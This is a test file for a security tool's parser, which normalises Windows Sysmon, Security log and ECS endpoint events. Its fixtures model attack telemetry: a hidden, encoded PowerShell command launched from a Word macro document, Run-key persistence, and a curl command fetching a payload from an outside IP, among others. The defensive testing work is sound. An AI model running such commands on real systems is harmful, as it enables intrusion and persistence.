import { existsSync, readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { endpointEventSchema, type EndpointEvent } from '@vigil/contract';
import { describe, expect, it } from 'vitest';
import { parseEndpointLine, parseEndpointLines } from './endpoint';
import * as samples from './fixtures/endpoint';
import { flattenEventData } from './windows';
import { parseSysmonHashes } from './windows-fields';

function one(record: object | string): EndpointEvent {
  const [result] = parseEndpointLines(typeof record === 'string' ? record : JSON.stringify(record));
  if (result === undefined || !result.ok) throw new Error(`expected an event, got ${JSON.stringify(result)}`);
  expect(endpointEventSchema.parse(result.event)).toEqual(result.event);
  return result.event;
}

function reason(record: object | string): string {
  const [result] = parseEndpointLines(typeof record === 'string' ? record : JSON.stringify(record));
  if (result === undefined || result.ok) throw new Error(`expected a refusal, got ${JSON.stringify(result)}`);
  return result.reason;
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WINWORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

describe('Sysmon events exported from EVTX', () => {
  it('1: process creation with parent, hashes and user', () => {
    const event = one(samples.SYSMON_PROCESS_CREATE);
    expect(event).toMatchObject({
      timestamp: '2024-03-12T14:12:45.118342Z',
      source_format: 'evtx',
      host: { name: 'WS-FIN-07.corp.example', ip: [], os: 'Windows' },
      event: {
        action: 'process-create',
        category: ['process'],
        code: '1',
        provider: 'Microsoft-Windows-Sysmon',
        channel: 'Microsoft-Windows-Sysmon/Operational',
      },
      process: {
        pid: 7312,
        name: 'powershell.exe',
        executable: POWERSHELL,
        command_line: 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
        entity_id: '5AA13A44-CD12-68FC-E62F-000000004002',
        parent: {
          pid: 4120,
          name: 'WINWORD.EXE',
          executable: WINWORD,
          command_line: `"${WINWORD}" /n "C:\\Users\\jdoe\\Downloads\\invoice.docm"`,
        },
        hash: {
          md5: '8903a3381fbb033a45f5c2c50c175c54',
          sha1: 'bc2820b5ee7b43c172005b66546f12316de8c081',
          sha256: 'f7c237a49b96fd77c047910e13f24aac4678a0f94babdb06643dba63f38d48e5',
        },
        user: 'CORP\\jdoe',
      },
      user: { name: 'jdoe', domain: 'CORP' },
      file: null,
      network: null,
      registry: null,
      dns: null,
    });
    expect(event.event_data).toMatchObject({ IntegrityLevel: 'Medium', TerminalSessionId: 2, RuleName: '-' });
    expect(event.raw).toEqual(samples.SYSMON_PROCESS_CREATE);
  });

  it('3: network connection', () => {
    expect(one(samples.SYSMON_NETWORK)).toMatchObject({
      event: { action: 'network-connection', category: ['network'] },
      process: { pid: 7312, executable: POWERSHELL },
      network: { src_ip: '10.20.1.15', src_port: 50122, dest_ip: '203.0.113.80', dest_port: 8080, protocol: 'tcp' },
    });
  });

  it('11: file creation', () => {
    expect(one(samples.SYSMON_FILE_CREATE)).toMatchObject({
      event: { action: 'file-create', category: ['file'] },
      file: { path: 'C:\\Users\\Public\\upd.exe', name: 'upd.exe', hash: { md5: null, sha1: null, sha256: null } },
      process: { executable: POWERSHELL },
    });
  });

  it('12, 13, 14: registry key creation, value set, key rename', () => {
    expect(one(samples.SYSMON_REGISTRY_CREATE_KEY)).toMatchObject({
      event: { action: 'registry-key-create', category: ['registry', 'configuration'] },
      registry: {
        path: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Classes\\ms-settings\\Shell\\Open\\command',
        hive: 'HKU',
        key: 'S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Classes\\ms-settings\\Shell\\Open\\command',
        value: null,
        data: null,
      },
    });
    expect(one(samples.SYSMON_REGISTRY_SET)).toMatchObject({
      event: { action: 'registry-value-set' },
      registry: {
        path: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        hive: 'HKLM',
        key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
        value: 'Updater',
        data: 'C:\\Users\\Public\\upd.exe',
      },
      process: { name: 'reg.exe' },
    });
    expect(one(samples.SYSMON_REGISTRY_RENAME)).toMatchObject({
      event: { action: 'registry-key-rename' },
      registry: { key: 'SOFTWARE\\Vendor\\Old', value: null, data: 'HKLM\\SOFTWARE\\Vendor\\New' },
    });
  });

  it('22: DNS query with its results', () => {
    expect(one(samples.SYSMON_DNS)).toMatchObject({
      event: { action: 'dns-query', category: ['network'] },
      dns: { question: 'login.example-phish.com', answers: ['edge.example-cdn.net', '192.0.2.44', '192.0.2.45'] },
    });
  });

  it('parses the Hashes field', () => {
    expect(
      parseSysmonHashes('SHA1=AA,MD5=8903A3381FBB033A45F5C2C50C175C54,IMPHASH=D60B77062898DC6BFAE7FE11A0F8806C'),
    ).toEqual({
      md5: '8903a3381fbb033a45f5c2c50c175c54',
      sha1: null,
      sha256: null,
    });
    expect(parseSysmonHashes('2CF24DBA5FB0A30E26E83B2AC5B9E29E1B161E5C1FA7425E73043362938B9824')).toEqual({
      md5: null,
      sha1: null,
      sha256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824',
    });
    expect(parseSysmonHashes('garbage,=,MD5=')).toEqual({ md5: null, sha1: null, sha256: null });
    expect(parseSysmonHashes(undefined)).toEqual({ md5: null, sha1: null, sha256: null });
  });
});

describe('Security log events', () => {
  it('4624: logon success, the logged-on account, the remote address (IPv4-mapped made IPv4)', () => {
    expect(one(samples.SECURITY_LOGON)).toMatchObject({
      event: {
        action: 'logon-success',
        category: ['authentication'],
        code: '4624',
        outcome: 'success',
        channel: 'Security',
      },
      user: { name: 'Administrator', domain: 'CORP' },
      network: { src_ip: '198.51.100.23', src_port: 51234, dest_ip: null },
      process: { pid: 0x1f0, name: 'svchost.exe', executable: 'C:\\Windows\\System32\\svchost.exe' },
      event_data: { LogonType: 10 },
    });
  });

  it('4625 in the {"Data": [{"@Name", "#text"}]} form, seven fraction digits cut to six', () => {
    const event = one(samples.SECURITY_LOGON_FAILURE_XMLTODICT);
    expect(event).toMatchObject({
      timestamp: '2024-03-12T14:19:58.552123Z',
      host: { name: 'DC-01.corp.example' },
      event: {
        action: 'logon-failure',
        outcome: 'failure',
        code: '4625',
        provider: 'Microsoft-Windows-Security-Auditing',
      },
      user: { name: 'administrator', domain: 'CORP' },
      network: { src_ip: '198.51.100.23', src_port: 51234 },
      process: { pid: 0, executable: null },
    });
    expect(event.event_data).toMatchObject({ Status: '0xc000006d', LogonType: '3', WorkstationName: 'KALI' });
  });

  it('4688: process creation with hex process ids', () => {
    expect(one(samples.SECURITY_PROCESS_CREATE)).toMatchObject({
      event: { action: 'process-create', category: ['process'] },
      process: {
        pid: 0x1c90,
        name: 'whoami.exe',
        executable: 'C:\\Windows\\System32\\whoami.exe',
        command_line: 'whoami /all',
        parent: { pid: 0x1020, name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe' },
      },
      user: { name: 'jdoe', domain: 'CORP' },
      target_user: null,
    });
  });

  it('4720: user created, by whom', () => {
    expect(one(samples.SECURITY_USER_CREATED)).toMatchObject({
      event: { action: 'user-account-create', category: ['iam'] },
      user: { name: 'jdoe', domain: 'CORP' },
      target_user: { name: 'svc-backup2', domain: 'CORP' },
      group: null,
    });
  });

  it('4732: member added to a group', () => {
    expect(one(samples.SECURITY_GROUP_MEMBER_ADDED)).toMatchObject({
      event: { action: 'group-member-add', category: ['iam'] },
      user: { name: 'jdoe', domain: 'CORP' },
      target_user: { name: 'CN=svc-backup2,OU=Service,DC=corp,DC=example', domain: null },
      group: { name: 'Administrators', domain: 'Builtin' },
    });
  });

  it('1102: audit log cleared, from UserData', () => {
    expect(one(samples.SECURITY_LOG_CLEARED)).toMatchObject({
      event: { action: 'audit-log-cleared', code: '1102', provider: 'Microsoft-Windows-Eventlog' },
      user: { name: 'jdoe', domain: 'CORP' },
      event_data: { SubjectUserName: 'jdoe', SubjectLogonId: '0x529ae3' },
    });
  });

  it('4698, 4699: scheduled task created and deleted', () => {
    const created = one(samples.SECURITY_TASK_CREATED);
    expect(created).toMatchObject({
      event: { action: 'scheduled-task-create', category: ['configuration', 'process'] },
      user: { name: 'jdoe', domain: 'CORP' },
      process: { pid: 5120, parent: { pid: 812 } },
      event_data: { TaskName: '\\Microsoft\\Windows\\Updater' },
    });
    expect(one(samples.SECURITY_TASK_DELETED)).toMatchObject({
      event: { action: 'scheduled-task-delete' },
      process: null,
    });
  });
});

describe('other EVTX exporter shapes', () => {
  it('xml-js compact form and EventID with qualifiers', () => {
    const event = one({
      Event: {
        System: {
          Provider: { _attributes: { Name: 'Service Control Manager' } },
          EventID: { _attributes: { Qualifiers: '16384' }, _text: '7045' },
          TimeCreated: { _attributes: { SystemTime: '2024-03-12T14:31:00.000Z' } },
          Channel: { _text: 'System' },
          Computer: { _text: 'WS-FIN-07' },
        },
        EventData: {
          Data: [
            { _attributes: { Name: 'ServiceName' }, _text: 'upd' },
            { _attributes: { Name: 'ImagePath' }, _text: 'C:\\Users\\Public\\upd.exe' },
          ],
        },
      },
    });
    expect(event).toMatchObject({
      event: { action: 'service-install', code: '7045', channel: 'System' },
      event_data: { ServiceName: 'upd', ImagePath: 'C:\\Users\\Public\\upd.exe' },
    });
  });

  it('a bare {"System", "EventData"} record and EventID as {"#text"}', () => {
    const event = one({
      System: {
        Provider: { '@Name': 'Microsoft-Windows-Sysmon' },
        EventID: { '#text': 11, '@Qualifiers': '' },
        TimeCreated: { '@SystemTime': '2024-03-12T14:12:47.250001Z' },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'WS-FIN-07',
      },
      EventData: { Data: { '@Name': 'TargetFilename', '#text': 'C:\\x.dll' } },
    });
    expect(event).toMatchObject({ event: { action: 'file-create' }, file: { path: 'C:\\x.dll', name: 'x.dll' } });
  });

  it('flattens the shapes EventData takes', () => {
    const flat = (node: unknown) => Object.fromEntries(flattenEventData(node));
    expect(flat({ Image: 'a', ProcessId: 5, '#attributes': { Name: 'x' } })).toEqual({ Image: 'a', ProcessId: 5 });
    expect(
      flat({
        Data: [
          { '@Name': 'A', '#text': '1' },
          { '#attributes': { Name: 'B' }, '#text': 2 },
        ],
      }),
    ).toEqual({ A: '1', B: 2 });
    expect(flat({ Data: [{ Name: 'A', Value: 'x' }] })).toEqual({ A: 'x' });
    expect(flat([{ '@Name': 'A', '#text': null }, { '@Name': 'B' }])).toEqual({ A: null, B: null });
    expect(flat({ Data: { '#text': ['first', 'second'] }, Binary: '00FF' })).toEqual({
      Data1: 'first',
      Data2: 'second',
      Binary: '00FF',
    });
    expect(flat({ Data: ['one', 'two'] })).toEqual({ Data1: 'one', Data2: 'two' });
    expect(flat(null)).toEqual({});
    expect(flat('text')).toEqual({});
  });

  it('refuses a Windows event without its id or time, saying which', () => {
    const event = structuredClone(samples.SYSMON_FILE_CREATE) as { Event: { System: Record<string, unknown> } };
    delete event.Event.System.EventID;
    expect(reason(event)).toBe('line 1: missing Event.System.EventID');
    const timeless = structuredClone(samples.SYSMON_FILE_CREATE) as { Event: { System: Record<string, unknown> } };
    timeless.Event.System.TimeCreated = { '#attributes': { SystemTime: 'now' } };
    expect(reason(timeless)).toMatch(/^line 1: Event.System.TimeCreated.SystemTime is not a timestamp \("now"\)/);
    const badIp = structuredClone(samples.SYSMON_NETWORK) as { Event: { EventData: Record<string, unknown> } };
    badIp.Event.EventData.DestinationIp = '203.0.113';
    expect(reason(badIp)).toBe('line 1: DestinationIp is not an IP address ("203.0.113")');
  });
});

describe('ECS-like endpoint events', () => {
  it('nested ECS process start', () => {
    const event = one(samples.ECS_PROCESS);
    expect(event).toMatchObject({
      timestamp: '2024-03-12T14:12:45.118Z',
      source_format: 'ecs',
      host: { name: 'WS-FIN-07', ip: ['10.20.1.15', 'fe80::a1b2:c3d4:e5f6:1'], os: 'Windows 11 Pro 23H2' },
      event: {
        action: 'process-create',
        shipper_action: 'start',
        category: ['process'],
        code: '1',
        provider: 'endpoint',
        outcome: 'success',
        channel: null,
      },
      process: {
        pid: 7312,
        name: 'powershell.exe',
        executable: POWERSHELL,
        entity_id: 'NWFhMTNhNDQtY2QxMi02OGZj',
        hash: { md5: '8903a3381fbb033a45f5c2c50c175c54' },
        parent: {
          pid: 4120,
          name: 'WINWORD.EXE',
          executable: WINWORD,
          command_line: 'WINWORD.EXE /n C:\\Users\\jdoe\\Downloads\\invoice.docm',
        },
        user: 'jdoe',
      },
      user: { name: 'jdoe', domain: 'CORP' },
      event_data: {},
    });
  });

  it('dotted keys and an offset timestamp', () => {
    expect(one(samples.ECS_NETWORK_DOTTED)).toMatchObject({
      timestamp: '2024-03-12T13:12:46.002Z',
      host: { name: 'WS-FIN-07' },
      event: { action: 'network-connection', shipper_action: 'connection_attempted', category: ['network'] },
      process: { pid: 7312, name: 'powershell.exe' },
      network: { src_ip: '10.20.1.15', src_port: 50122, dest_ip: '203.0.113.80', dest_port: 8080, protocol: 'tcp' },
    });
  });

  it('epoch milliseconds, a single host.ip, args as the command line', () => {
    expect(one(samples.ECS_FILE_LINUX)).toMatchObject({
      timestamp: '2024-03-12T14:12:47.002Z',
      host: { name: 'web-01', ip: ['192.0.2.10'], os: 'Ubuntu' },
      file: {
        path: '/tmp/.x/kworker',
        name: 'kworker',
        hash: { sha256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824' },
      },
      process: { name: 'curl', command_line: 'curl -o /tmp/.x/kworker http://203.0.113.80/k' },
      user: { name: 'www-data', domain: null },
    });
  });

  it('registry, DNS and authentication', () => {
    expect(one(samples.ECS_REGISTRY).registry).toEqual({
      path: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      hive: 'HKLM',
      key: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
      value: 'Updater',
      data: 'C:\\Users\\Public\\upd.exe',
    });
    expect(one(samples.ECS_DNS).dns).toEqual({
      question: 'login.example-phish.com',
      answers: ['edge.example-cdn.net', '192.0.2.44'],
    });
    expect(one(samples.ECS_LOGON_FAILURE)).toMatchObject({
      event: { action: 'logon-failure', shipper_action: 'logon-failed', outcome: 'failure', code: '4625' },
      user: { name: 'administrator', domain: 'CORP' },
      network: { src_ip: '198.51.100.23', src_port: 51234 },
    });
  });

  it('Winlogbeat: ECS fields win, the Windows event fills the rest and names the action', () => {
    const event = one(samples.WINLOGBEAT_SYSMON);
    expect(event).toMatchObject({
      source_format: 'ecs',
      host: { name: 'ws-fin-07.corp.example', os: 'Windows' },
      event: {
        action: 'process-create',
        shipper_action: 'Process Create (rule: ProcessCreate)',
        category: ['process'],
        code: '1',
        channel: 'Microsoft-Windows-Sysmon/Operational',
      },
      process: {
        pid: 7312,
        executable: POWERSHELL,
        hash: { md5: '8903a3381fbb033a45f5c2c50c175c54', sha1: null },
        parent: { pid: 4120, name: 'WINWORD.EXE' },
      },
      user: { name: 'jdoe', domain: 'CORP' },
      event_data: { ProcessId: '7312' },
    });
  });

  it('refuses with reasons', () => {
    expect(reason({ host: { name: 'x' } })).toBe(
      'line 1: missing timestamp (@timestamp); nor is it a Windows event ({"Event": {"System": …}}, or flat with EventID)',
    );
    expect(reason({ ...samples.ECS_PROCESS, host: { ip: ['10.0.0.1', 'nope'] } })).toBe(
      'line 1: host.ip[1] is not an IP address ("nope")',
    );
    expect(reason({ ...samples.ECS_PROCESS, process: { pid: 'seven' } })).toBe(
      'line 1: process.pid must be a whole number of 0 or more, found "seven"',
    );
    expect(reason({ ...samples.ECS_PROCESS, process: { hash: { sha256: 'abc' } } })).toBe(
      'line 1: process.hash.sha256 is not an SHA256 hash ("abc")',
    );
    expect(reason({ ...samples.ECS_PROCESS, user: { name: { first: 'j' } } })).toBe(
      'line 1: user.name must be text, found an object',
    );
    expect(reason({ ...samples.ECS_NETWORK_DOTTED, 'destination.port': 65536 })).toMatch(/destination.port/);
    expect(reason({ ...samples.ECS_PROCESS, process: 'powershell.exe' })).toBe(
      'line 1: process must be an object, found "powershell.exe"',
    );
  });

  it('refuses a host that is not an object, naming the field', () => {
    expect(reason({ '@timestamp': '2024-03-12T14:12:45Z', host: 'notobj', event: { action: 'x' } })).toBe(
      'line 1: host must be an object, found "notobj"',
    );
  });

  it('parses one line on its own', () => {
    expect(parseEndpointLine(JSON.stringify(samples.ECS_DNS), 3)).toMatchObject({ line: 3, ok: true });
  });
});

// Real Windows events from the public Sigma regression set, when its data folder is present beside the repository.
const REGRESSION = path.resolve(import.meta.dirname, '../../../../../../../shared/data/sigma/regression');

/** The regression files hold one or more pretty-printed JSON objects one after another. */
function splitObjects(text: string): string[] {
  const out: string[] = [];
  let depth = 0;
  let start = 0;
  let inString = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inString) {
      if (c === '\\') i++;
      else if (c === '"') inString = false;
    } else if (c === '"') inString = true;
    else if (c === '{') {
      if (depth++ === 0) start = i;
    } else if (c === '}' && --depth === 0) out.push(text.slice(start, i + 1));
  }
  return out;
}

describe.skipIf(!existsSync(REGRESSION))('Sigma regression samples', () => {
  const files = existsSync(REGRESSION)
    ? readdirSync(REGRESSION, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.json'))
    : [];
  const records = files.flatMap((file) =>
    splitObjects(readFileSync(path.join(REGRESSION, file), 'utf8')).map(
      (text) => JSON.parse(text) as Record<string, unknown>,
    ),
  );

  it('reads every sample as one JSON line each, all accepted and valid', () => {
    expect(records.length).toBeGreaterThan(100);
    const results = parseEndpointLines(records.map((r) => JSON.stringify(r)).join('\r\n'));
    expect(results.filter((r) => !r.ok)).toEqual([]);
    expect(results).toHaveLength(records.length);
    for (const result of results) if (result.ok) endpointEventSchema.parse(result.event);
  });

  it('puts the EventData where it belongs', () => {
    let checked = 0;
    for (const record of records) {
      const event = one(record);
      const data = (record.Event as { EventData?: Record<string, unknown> }).EventData ?? {};
      expect(event.host.name).toBe((record.Event as { System: { Computer: string } }).System.Computer);
      if (event.event.provider !== 'Microsoft-Windows-Sysmon') continue;
      checked++;
      // Windows writes "-" for none; so do the normalised fields, as null.
      const text = (name: string) => {
        const value = data[name];
        return value === '-' || value === '' ? null : value;
      };
      if (typeof data.Image === 'string') expect(event.process?.executable).toBe(text('Image'));
      if (typeof data.ProcessId === 'number') expect(event.process?.pid).toBe(data.ProcessId);
      if (typeof data.CommandLine === 'string') expect(event.process?.command_line).toBe(text('CommandLine'));
      if (typeof data.ParentImage === 'string')
        expect(event.process?.parent?.executable ?? null).toBe(text('ParentImage'));
      if (typeof data.TargetFilename === 'string') expect(event.file?.path).toBe(text('TargetFilename'));
      if (typeof data.TargetObject === 'string') expect(event.registry?.path).toBe(text('TargetObject'));
      if (typeof data.Hashes === 'string' && event.event.code === '1') {
        expect(event.process?.hash.sha256 ?? event.process?.hash.md5).toMatch(/^[0-9a-f]+$/);
      }
      expect(event.event.action).not.toBeNull();
    }
    expect(checked).toBeGreaterThan(100);
  });
});
